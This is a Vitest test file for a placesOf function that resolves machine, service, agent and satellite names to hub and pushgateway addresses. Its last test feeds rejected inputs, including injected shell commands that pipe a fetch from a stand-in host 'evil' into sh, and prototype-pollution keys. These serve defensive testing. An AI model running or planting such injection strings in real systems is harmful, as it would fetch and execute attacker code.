import { expect, it } from "vitest";
import { placesOf } from "../../../hub/core/subject-places.ts";

const at = (name: string) => ({ hub: { url: `http://${name}:9000` }, pushgateway: { url: `http://${name}:9091` } });
const sight = {
  machines: { mainpc: at("mainpc"), pc2: at("pc2") },
  satellites: { nas: { askedBy: "pc2" } },
  services: [{ name: "NLUAgent", owner: "pc2" }],
  agents: [{ machine: "pc2", name: "TutorAgent" }],
};

it("a machine has the other one as its peer, and both hubs' addresses", () => {
  expect(placesOf("mainpc", sight)).toEqual({
    machine: "mainpc",
    peer: "pc2",
    agent: undefined,
    service: undefined,
    hub: "http://mainpc:9000",
    peerHub: "http://pc2:9000",
    pushgateway: "http://mainpc:9091",
  });
});

it("a service stands for the machine that owns it, an agent for its own, a satellite for the one that asks it", () => {
  expect(placesOf("NLUAgent", sight)).toMatchObject({ machine: "pc2", peer: "mainpc", service: "NLUAgent" });
  expect(placesOf("pc2/TutorAgent", sight)).toMatchObject({ machine: "pc2", agent: "TutorAgent", peer: "mainpc" });
  expect(placesOf("nas", sight)).toMatchObject({
    machine: "nas",
    peer: "pc2",
    hub: undefined,
    peerHub: "http://pc2:9000",
  });
});

it.each([
  "elsewhere",
  "pc2/Nobody",
  "pc2/TutorAgent/more",
  'pc2"; curl evil|sh',
  'pc2/"; curl evil|sh',
  "constructor",
  "__proto__",
  "constructor/name",
])("%s, which nobody knows, has nothing, not even itself", (subject) => {
  expect(Object.values(placesOf(subject, sight)).filter((value) => value !== undefined)).toEqual([]);
});
